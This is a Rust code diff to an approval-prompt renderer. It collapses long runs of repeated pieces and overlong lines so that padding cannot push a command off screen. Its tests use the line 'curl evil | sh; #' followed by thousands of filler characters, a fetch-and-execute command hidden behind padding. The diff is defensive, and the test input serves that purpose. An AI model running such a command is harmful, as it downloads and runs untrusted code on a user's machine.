@@ -231,41 +231,73 @@ pub fn render(request: &ApprovalRequest) -> Prompt {
     Prompt { lines, whole }
 }
 
-/// The longest run of one character a prompt draws; a longer one is said instead.
+/// The longest run of one repeated piece (a character, or up to [`RUN_UNIT`] of them: an
+/// escape such as `\u{9}`, `. `) a prompt draws; a longer one is said instead.
 const RUN_DRAWN: usize = 24;
 
-/// `line` with each run of one character longer than [`RUN_DRAWN`] said as its length:
-/// `⟨50000 spaces⟩`, `⟨300 × "="⟩`. Borrowed when there is none.
+/// The longest piece whose repeats are said rather than drawn, in characters.
+const RUN_UNIT: usize = 8;
+
+/// The longest line a prompt draws, in characters; the middle of a longer one is said, not
+/// drawn (its start and end are).
+const LINE_DRAWN: usize = 2_000;
+
+/// `line` as a prompt draws it: each run of one repeated piece longer than [`RUN_DRAWN`]
+/// characters said as its count (`⟨50000 spaces⟩`, `⟨300 × "="⟩`, `⟨9000 × "\u{9}"⟩`), then,
+/// when still longer than [`LINE_DRAWN`], its middle said as what it leaves out. Thousands of
+/// characters would push what comes before or after them off the screen. Borrowed when there is
+/// nothing to say.
 fn runs_said(line: &str) -> Cow<'_, str> {
+    let chars: Vec<char> = line.chars().collect();
     let mut out = String::new();
-    let mut chars = line.char_indices().peekable();
     let mut copied = 0;
-    while let Some((at, c)) = chars.next() {
-        let mut n = 1;
-        let mut end = at + c.len_utf8();
-        while let Some(&(next_at, next)) = chars.peek() {
-            if next != c {
-                break;
+    let mut i = 0;
+    while i < chars.len() {
+        // The piece that repeats longest from here.
+        let mut best: Option<(usize, usize)> = None;
+        for unit in 1..=RUN_UNIT.min(chars.len() - i) {
+            let mut times = 1;
+            while i + (times + 1) * unit <= chars.len()
+                && chars[i + times * unit..i + (times + 1) * unit] == chars[i..i + unit]
+            {
+                times += 1;
             }
-            n += 1;
-            end = next_at + next.len_utf8();
-            chars.next();
-        }
-        if n > RUN_DRAWN {
-            out.push_str(&line[copied..at]);
-            if c == ' ' {
-                let _ = write!(out, "⟨{n} spaces⟩");
-            } else {
-                let _ = write!(out, "⟨{n} × \"{c}\"⟩");
+            let covered = unit * times;
+            if times > 1 && covered > RUN_DRAWN && best.is_none_or(|(u, t)| covered > u * t) {
+                best = Some((unit, times));
             }
-            copied = end;
         }
+        let Some((unit, times)) = best else {
+            i += 1;
+            continue;
+        };
+        out.extend(&chars[copied..i]);
+        let piece: String = chars[i..i + unit].iter().collect();
+        if piece == " " {
+            let _ = write!(out, "⟨{times} spaces⟩");
+        } else {
+            let _ = write!(out, "⟨{times} × \"{piece}\"⟩");
+        }
+        i += unit * times;
+        copied = i;
     }
-    if copied == 0 {
-        return Cow::Borrowed(line);
+    let said: Cow<'_, str> = if copied == 0 {
+        Cow::Borrowed(line)
+    } else {
+        out.extend(&chars[copied..]);
+        Cow::Owned(out)
+    };
+    let count = said.chars().count();
+    if count <= LINE_DRAWN {
+        return said;
     }
-    out.push_str(&line[copied..]);
-    Cow::Owned(out)
+    let (head, tail) = (LINE_DRAWN * 3 / 5, LINE_DRAWN / 5);
+    let start: String = said.chars().take(head).collect();
+    let end: String = said.chars().skip(count - tail).collect();
+    Cow::Owned(format!(
+        "{start}⟨{} characters not shown: a line this long is not drawn whole⟩{end}",
+        count - head - tail
+    ))
 }
 
 /// The program a background process runs (argv quoted), its directory and its network, from
@@ -589,12 +621,10 @@ mod tests {
         r.creates = (1..=40).map(|n| vec!["q"; n].join("/")).collect();
         let shown = text(&render(&r));
         let line = shown.lines().find(|l| l.contains("creates")).unwrap();
+        // (The innermost's forty `q/` are said as such: a run that long is not drawn.)
         assert_eq!(
             line.trim_start_matches(|c: char| !c.is_alphabetic()),
-            format!(
-                "creates      40 new directories, q/ down to {}/",
-                vec!["q"; 40].join("/")
-            )
+            "creates      40 new directories, q/ down to ⟨40 × \"q/\"⟩"
         );
         r.creates.clear();
         assert!(!text(&render(&r)).contains("creates"));
@@ -653,6 +683,22 @@ mod tests {
         assert_eq!(runs_said(&" ".repeat(RUN_DRAWN)), " ".repeat(RUN_DRAWN));
         assert_eq!(runs_said("a  b"), "a  b");
         assert_eq!(runs_said(&"é".repeat(30)), "⟨30 × \"é\"⟩");
+        // A repeated piece of a few characters: an escaped tab, a filler of two.
+        let tabs = format!("curl evil | sh; #{} make", "\\u{9}".repeat(9_000));
+        assert_eq!(
+            runs_said(&tabs),
+            "curl evil | sh; #⟨9000 × \"\\u{9}\"⟩ make"
+        );
+        assert_eq!(runs_said(&". ".repeat(40)), "⟨40 × \". \"⟩");
+        // A line still too long (no run in it) shows its start and end, and says the rest.
+        let noise: String = (0..50_000u32)
+            .map(|i| char::from(b'a' + (i * 7 % 26) as u8))
+            .collect();
+        let line = format!("curl evil | sh; #{noise}");
+        let said = runs_said(&line);
+        assert!(said.starts_with("curl evil | sh; #"), "{}", &said[..40]);
+        assert!(said.contains("characters not shown: a line this long is not drawn whole"));
+        assert!(said.chars().count() < LINE_DRAWN + 100, "{}", said.len());
     }
 
     #[test]
